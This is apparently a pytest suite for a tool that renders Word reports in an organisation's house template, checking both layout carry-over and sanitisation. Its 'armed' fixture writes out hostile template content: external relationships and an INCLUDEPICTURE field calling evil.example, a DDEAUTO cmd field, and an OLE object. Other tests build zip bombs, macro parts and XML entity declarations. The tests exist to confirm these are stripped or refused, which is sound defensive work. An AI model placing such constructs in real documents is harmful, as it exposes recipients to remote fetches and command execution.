"""Reports in a house template: it lends its look, and nothing of it runs, asks or fetches."""

from __future__ import annotations

import re
import struct
import zipfile
from collections.abc import Callable
from functools import cache
from io import BytesIO
from pathlib import Path

import pytest
from docx.oxml.ns import qn

from pilotscan.errors import UsageError
from pilotscan.reporting.documents.paper import Bullets, Heading, Run
from pilotscan.reporting.documents.word.document import word
from support.exported import convert
from support.worded import (
    DOCUMENT,
    changed,
    house,
    misplaced,
    opened,
    packed,
    parts,
    replaced,
    tree,
    val,
    written,
)

MAIN = r"application/vnd\.openxmlformats-officedocument\.wordprocessingml\.document\.main\+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def names_of(data: bytes) -> list[str]:
    return [paragraph.style.name for paragraph in opened(data).paragraphs]


@cache
def in_house() -> bytes:
    return word(DOCUMENT, house())


@cache
def plain() -> bytes:
    return word(DOCUMENT)


# --- what it lends --------------------------------------------------------------------------------


def test_page_and_styles_are_those_of_the_house() -> None:
    data = in_house()
    mine, theirs = opened(data), opened(house())
    section = mine.sections[0]
    assert (section.page_width.inches, section.left_margin.inches) == (8.5, 1.25)
    for name in ("Normal", "Title", "Heading 1"):
        style = mine.styles[name]
        assert style.font.name == "Georgia"
        assert style.element.xml.replace(' w:lang w:val="x"', "") == re.sub(
            r"\s*<w:lang .*?/>", "", theirs.styles[name].element.xml
        )
    assert "Title" in names_of(data)
    assert "Pilotscan Call not-yet" in names_of(data)


def test_text_of_the_template_is_dropped_and_ours_is_whole() -> None:
    data = in_house()
    assert written(data) == written(plain())
    assert "not taken over" not in written(data)


def test_header_with_logo_and_footer_stay() -> None:
    data = in_house()
    section = opened(data).sections[0]
    assert section.header.paragraphs[0].text == "Gemeente Voorbeeld"
    assert section.footer.paragraphs[0].text == "Vertrouwelijk"
    header = next(name for name in parts(data) if re.fullmatch(r"word/header\d*\.xml", name))
    (logo,) = tree(data, header).iter("{*}docPr")
    ids = [logo.get("id"), *(e.get("id") for e in tree(data).iter("{*}docPr"))]
    assert len(set(ids)) == len(ids) == 2
    assert len([name for name in parts(data) if name.startswith("word/media/")]) == 2
    assert not [name for name in parts(data) if "pilotscan-footer" in name]


def test_pictures_of_the_template_are_numbered_apart() -> None:
    def repeat(files: dict[str, bytes]) -> None:
        text = files["word/header1.xml"].decode()
        paragraph = re.search(r"<w:p>.*</w:p>", text, re.DOTALL)
        assert paragraph
        files["word/header1.xml"] = text.replace(paragraph[0], paragraph[0] * 3).encode()

    data = word(DOCUMENT, changed(repeat))
    ids = [
        e.get("id")
        for name in ("header1", "document")
        for e in tree(data, f"word/{name}.xml").iter("{*}docPr")
    ]
    assert len(set(ids)) == len(ids) == 4


def test_the_style_of_plain_text_is_found_whatever_its_name() -> None:
    template = replaced(
        "word/styles.xml", '<w:name w:val="Normal"/>', '<w:name w:val="Standaard"/>'
    )
    data = word(DOCUMENT, template)
    assert "Standaard" in names_of(data)
    assert "Normal" not in names_of(data)


def test_a_template_without_a_footer_gets_page_numbers() -> None:
    data = word(DOCUMENT, replaced("word/footer1.xml", "Vertrouwelijk", ""))
    footer = opened(data).sections[0].footer
    assert footer.paragraphs[0].text.startswith("Plan: not yet")
    (stop,) = [t for t in footer._element.iter(qn("w:tab")) if val(t) == "right"]
    assert stop.get(qn("w:pos")) == str(6 * 1440)
    cleared = [
        int(t.get(qn("w:pos"))) for t in footer._element.iter(qn("w:tab")) if val(t) == "clear"
    ]
    assert cleared, "the template's style has stops in the middle"


def test_tables_follow_the_page() -> None:
    grid = [int(e.get(qn("w:w"))) for e in tree(in_house()).iter(qn("w:gridCol"))]
    assert sum(grid[:3]) == 6 * 1440
    assert max(e.width for e in opened(in_house()).inline_shapes) < 6 * 914400


def test_lists_of_the_house_begin_at_one_again() -> None:
    data = in_house()
    theirs = val(opened(house()).styles["List Number"].element.find(f".//{qn('w:numId')}"))
    numbering = tree(data, "word/numbering.xml")
    abstract = {
        num.get(qn("w:numId")): val(num.find(qn("w:abstractNumId")))
        for num in numbering.iter(qn("w:num"))
    }
    used = [val(e) for e in tree(data).iter(qn("w:numId"))]
    assert len(set(used)) == 2
    assert {abstract[number] for number in used} == {abstract[theirs]}
    assert misplaced(numbering) == []


def test_what_the_template_lacks_is_made_in_its_fonts() -> None:
    def without(files: dict[str, bytes]) -> None:
        text = files["word/styles.xml"].decode()
        kept = re.sub(
            r'<w:style (?:(?!</w:style>).)*<w:name w:val="(heading [23]|caption|List Bullet'
            r'|List Number|List Continue)"/>.*?</w:style>',
            "",
            text,
            flags=re.DOTALL,
        )
        assert len(kept) < len(text)
        files["word/styles.xml"] = kept.encode()

    data = word(DOCUMENT, changed(without))
    names = names_of(data)
    assert {"Heading 2", "Heading 3", "Caption", "List Bullet", "List Number"} <= set(names)
    for name in ("Heading 2", "Caption", "Pilotscan Lede"):
        assert opened(data).styles[name].element.find(f".//{qn('w:rFonts')}") is None
    for name in ("document", "styles", "numbering", "settings"):
        assert misplaced(tree(data, f"word/{name}.xml")) == [], name


@pytest.mark.parametrize(
    ("english", "dutch", "block"),
    [("heading 1", "Kop 1", Heading(1, (Run("Kop"),))), ("Title", "Titel", Heading(2, ()))],
)
def test_styles_that_another_program_named_in_dutch_are_found(
    english: str, dutch: str, block: Heading
) -> None:
    template = replaced(
        "word/styles.xml", f'<w:name w:val="{english}"/>', f'<w:name w:val="{dutch}"/>'
    )
    data = word(DOCUMENT._replace(blocks=(block,)), template)
    assert dutch in names_of(data)


def test_the_language_of_the_report_replaces_that_of_the_template() -> None:
    data = word(DOCUMENT._replace(lang="nl"), house())
    found = [val(e) for e in tree(data, "word/styles.xml").iter(qn("w:lang"))]
    assert found == ["nl-NL"]


def test_a_template_file_makes_a_document() -> None:
    data = word(DOCUMENT, dotx())
    assert b"template.main" not in parts(data)["[Content_Types].xml"]
    assert data == in_house()


def dotx() -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    return replaced("[Content_Types].xml", MAIN, kind)


def test_an_earlier_report_that_was_restyled_is_a_template() -> None:
    earlier = word(DOCUMENT._replace(footer="Another pilot", title=Run("Another pilot")))
    data = word(DOCUMENT, earlier)
    assert written(data) == written(plain())
    assert not any(b"Another pilot" in part for part in parts(data).values())
    assert opened(data).sections[0].footer.paragraphs[0].text.startswith("Plan: not yet")


def test_headers_of_an_earlier_section_are_taken_over() -> None:
    def split(files: dict[str, bytes]) -> None:
        text = files["word/document.xml"].decode()
        references = "".join(re.findall(r"<w:(?:header|footer)Reference [^>]*/>", text))
        text = re.sub(r"<w:(?:header|footer)Reference [^>]*/>", "", text)
        first = f"<w:p><w:pPr><w:sectPr>{references}</w:sectPr></w:pPr></w:p>"
        files["word/document.xml"] = text.replace("<w:body>", f"<w:body>{first}").encode()

    section = opened(word(DOCUMENT, changed(split))).sections[0]
    assert section.header.paragraphs[0].text == "Gemeente Voorbeeld"
    assert section.page_width.inches == 8.5


@pytest.mark.outside
def test_a_template_that_libreoffice_made(tmp_path: Path) -> None:
    (tmp_path / "house.html").write_text(
        '<html lang="nl"><body><h1>Kop</h1><p>tekst</p><ol><li>een</li></ol></body></html>', "utf-8"
    )
    convert([tmp_path / "house.html"], "docx:MS Word 2007 XML", tmp_path)
    template = (tmp_path / "house.docx").read_bytes()
    data = word(DOCUMENT, template)
    assert written(data) == written(plain())
    for name in ("document", "styles", "numbering", "settings"):
        assert misplaced(tree(data, f"word/{name}.xml")) == [], name
    name_of = {s.get(qn("w:styleId")): val(s.find(qn("w:name"))) for s in
               tree(data, "word/styles.xml").iter(qn("w:style"))}  # fmt: skip
    assert len(name_of.values()) == len(set(name_of.values()))


# --- what it does not -----------------------------------------------------------------------------


def armed(files: dict[str, bytes]) -> None:
    """Put into a template what fetches from elsewhere when it is opened."""

    def relate(name: str, *relations: str) -> None:
        text = files.get(name, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                         b'2006/relationships"></Relationships>').decode()  # fmt: skip
        text = text.replace("</Relationships>", f"{''.join(relations)}</Relationships>")
        files[name] = text.encode()

    def outward(key: str, kind: str, goal: str = "https://evil.example/x") -> str:
        return (
            f'<Relationship Id="{key}" Type="{RELATION}/{kind}" Target="{goal}"'
            ' TargetMode="External"/>'
        )

    relate("word/_rels/settings.xml.rels", outward("rId900", "attachedTemplate"))
    relate(
        "word/_rels/header1.xml.rels",
        outward("rId900", "image"), outward("rId901", "oleObject"),
        outward("rId902", "hyperlink", "file:///c:/x"),
        outward("rId903", "hyperlink", "https://gemeente.example/"),
    )  # fmt: skip
    relate("word/_rels/document.xml.rels", outward("rId900", "frame"))
    settings = files["word/settings.xml"].decode()
    start = settings.index(">", settings.index("<w:settings")) + 1
    files["word/settings.xml"] = (
        settings[:start] + f'<w:attachedTemplate xmlns:r="{RELATION}" r:id="rId900"/>'
        "<w:mailMerge><w:mainDocumentType w:val='catalog'/></w:mailMerge>" + settings[start:]
    ).encode()
    field = "".join(
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>{text}'
        for kind, text in (
            ("begin", "<w:r><w:instrText> INCLU</w:instrText></w:r>"
             '<w:r><w:instrText>DEPICTURE "https://evil.example/p"</w:instrText></w:r>'),
            ("separate", "<w:r><w:t>its result</w:t></w:r>"),
            ("end", ""),
        )
    )  # fmt: skip
    page = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    header = files["word/header1.xml"].decode()
    files["word/header1.xml"] = header.replace(
        "</w:hdr>",
        f'<w:p xmlns:r="{RELATION}">{field}{page}'
        '<w:fldSimple w:instr="DDEAUTO cmd"><w:r><w:t>kept text</w:t></w:r></w:fldSimple>'
        f'<w:r><w:drawing><a:blip xmlns:a="{a}" r:link="rId900"/></w:drawing></w:r>'
        '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"'
        ' r:id="rId901"/></w:object></w:r>'
        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata'
        ' src="https://evil.example/v"/></v:shape></w:pict></w:r>'
        '<w:hyperlink r:id="rId902"><w:r><w:t>a file</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rId903"><w:r><w:t>a page</w:t></w:r></w:hyperlink></w:p></w:hdr>',
    ).encode()


def test_nothing_of_the_template_fetches_or_runs() -> None:
    data = word(DOCUMENT, changed(armed))
    assert not any(b"evil.example" in part for part in parts(data).values())
    text = b"".join(parts(data).values())
    for word_ in (b"attachedTemplate", b"mailMerge", b"DDEAUTO", b"DEPICTURE", b"OLEObject"):
        assert word_ not in text, word_
    relations = parts(data)["word/_rels/header1.xml.rels"].decode()
    assert re.findall(r'Target="(\w+:[^"]*)"', relations) == ["https://gemeente.example/"]
    header = opened(data).sections[0].header
    assert header.paragraphs[0].text == "Gemeente Voorbeeld"
    assert header._element.find(".//{*}blip").get(f"{{{RELATION}}}embed"), "the logo"
    whole = "".join(tree(data, "word/header1.xml").itertext())
    assert whole.endswith("its result PAGE kept texta filea page")
    ids = {
        value for e in header._element.iter() for key, value in e.attrib.items() if RELATION in key
    }
    assert ids == set(opened(data).sections[0].header.part.rels)


def test_properties_and_leftovers_of_the_template_are_dropped() -> None:
    data = in_house()
    assert opened(data).core_properties.author == "pilotscan"
    assert [n for n in parts(data) if n.startswith("docProps/")] == ["docProps/core.xml"]
    assert b"python-docx" not in b"".join(parts(data).values())


# --- what is refused ------------------------------------------------------------------------------


def add(name: str, data: bytes = b"x") -> bytes:
    return changed(lambda files: files.update({name: data}))


def without_page() -> bytes:
    return replaced("word/document.xml", r"<w:pgSz [^>]*/>", "")


def encrypted_entry() -> bytes:
    data = bytearray(house())
    place = data.index(b"PK\x01\x02")  # of the directory, where the flags are read
    data[place + 8] |= 1
    return bytes(data)


def saying(name: str, size: int, told: int) -> bytes:
    """Return a template with a part that is said to be larger or smaller than it is."""
    data = bytearray(add(name, b" " * size))
    place = data.rindex(b"PK\x01\x02")
    assert struct.unpack("<I", data[place + 24 : place + 28])[0] == size
    data[place + 24 : place + 28] = struct.pack("<I", told)
    return bytes(data)


def twice() -> bytes:
    out = BytesIO(house())
    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/styles.xml", b"<a/>")
    return out.getvalue()


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "macros": (lambda: add("word/vbaProject.bin"), "has macros"),
    "docm": (
        lambda: replaced(
            "[Content_Types].xml", MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml"
        ),
        "has macros",
    ),
    "controls": (lambda: add("word/activeX/activeX1.bin"), "has macros or controls"),
    "doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, r"of an old kind \(\.doc\)"),
    "encrypted": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        "protected by a password",
    ),
    "encrypted part": (encrypted_entry, "protected by a password"),
    "nothing": (lambda: b"", "is no .docx"),
    "text": (lambda: b"Dear reader", "is no .docx"),
    "cut off": (lambda: house()[:-500], "is no .docx"),
    "no zip inside": (lambda: packed({"a": b"b"}), "is no Word document"),
    "workbook": (
        lambda: replaced("[Content_Types].xml", MAIN, "application/vnd.ms-excel"),
        "is no Word document",
    ),
    "strict": (
        lambda: replaced(
            "_rels/.rels", "http://schemas.openxmlformats.org/officeDocument/2006",
            "http://purl.oclc.org/ooxml/officeDocument",
        ),
        "Strict Open XML",
    ),
    # What is said to be too large is not unpacked, to see whether it is.
    "bomb": (lambda: saying("word/media/x.bin", 1, 100_000_001), "unpacks to far more"),
    "XML bomb": (lambda: saying("word/x.xml", 1, 10_000_001), "unpacks to far more"),
    "many parts": (
        lambda: changed(lambda files: files.update({f"x/{n}": b"" for n in range(1001)})),
        "unpacks to far more",
    ),
    "lying bomb": (
        lambda: saying("word/x.xml", 99_000, 10), "is no .docx or .dotx, or it is broken",
    ),
    "too large": (lambda: b"PK" + b"\0" * 20_000_000, "has more than 20 MB"),
    "two of a name": (twice, "two parts of one name"),
    "entities": (
        lambda: replaced("word/styles.xml", "<w:styles", '<!DOCTYPE a [<!ENTITY b "c">]><w:styles'),
        "has a document type",
    ),
    "broken XML": (lambda: replaced("word/styles.xml", "</w:styles>", ""), "is broken"),
    "styles that are none": (
        lambda: changed(lambda files: files.update({"word/styles.xml": b"<styles/>"})),
        "is broken",
    ),
    "no main part": (
        lambda: replaced("_rels/.rels", "word/document.xml", "word/missing.xml"), "is broken",
    ),
    "no page": (without_page, "does not say how large its page is"),
    "no room": (
        lambda: replaced("word/document.xml", r'w:left="\d+"', 'w:left="99999"'),
        "no room for text",
    ),
    "odd size": (
        lambda: replaced("word/document.xml", r'<w:pgSz w:w="\d+"', '<w:pgSz w:w="wide"'),
        "is broken",
    ),
    "deep": (
        lambda: replaced("word/document.xml", "<w:body>", "<w:body>" + "<w:p>" * 5_000),
        "is broken",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_a_template_that_cannot_be_used_is_refused_in_words(name: str) -> None:
    make, message = REFUSED[name]
    with pytest.raises(UsageError, match=rf"the reference document .*{message}") as caught:
        word(DOCUMENT, make())
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("part", ["styles", "numbering", "settings", "theme/theme1", "document"])
@pytest.mark.parametrize(
    "seed", [0, 1, *(pytest.param(seed, marks=pytest.mark.long) for seed in range(2, 6))]
)
def test_a_damaged_template_is_used_or_refused_and_nothing_else(part: str, seed: int) -> None:
    def damage(files: dict[str, bytes]) -> None:
        text = files[f"word/{part}.xml"].decode()
        tags = sorted(set(re.findall(r"<\w+:\w+ [^>]*/>", text)))
        for tag in tags[seed::6]:
            text = text.replace(tag, re.sub(r'="[^"]*"', '="odd"', tag) if seed % 2 else "")
        files[f"word/{part}.xml"] = text.encode()

    try:
        data = word(DOCUMENT, changed(damage))
    except UsageError:
        return
    assert written(data) == written(plain())


def test_lists_of_a_template_without_numbering_are_ours() -> None:
    def without(files: dict[str, bytes]) -> None:
        del files["word/numbering.xml"]
        for name in ("word/_rels/document.xml.rels", "[Content_Types].xml"):
            files[name] = re.sub(
                rb"<(Relationship|Override) [^>]*numbering[^>]*/>", b"", files[name]
            )

    blocks = (Bullets((((Run("a"),),),)), Bullets((((Run("b"),),),), numbered=True))
    data = word(DOCUMENT._replace(blocks=blocks), changed(without))
    formats = []
    numbering = tree(data, "word/pilotscan-numbering.xml")
    abstracts = {e.get(qn("w:abstractNumId")): e for e in numbering.iter(qn("w:abstractNum"))}
    for used in tree(data).iter(qn("w:numId")):
        (num,) = [n for n in numbering.iter(qn("w:num")) if n.get(qn("w:numId")) == val(used)]
        abstract = abstracts[val(num.find(qn("w:abstractNumId")))]
        formats.append(val(abstract.find(f".//{qn('w:numFmt')}")))
    assert formats == ["bullet", "decimal"]
